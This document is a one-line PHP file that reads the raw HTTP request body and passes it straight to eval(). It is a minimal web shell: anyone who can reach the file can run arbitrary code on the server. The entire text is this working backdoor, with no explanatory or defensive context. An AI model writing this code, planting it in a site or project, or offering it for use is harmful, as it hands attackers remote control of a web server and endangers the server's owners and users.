<?php $f = fopen("php://input", "r"); $code = stream_get_contents($f); eval("?>" . $code);
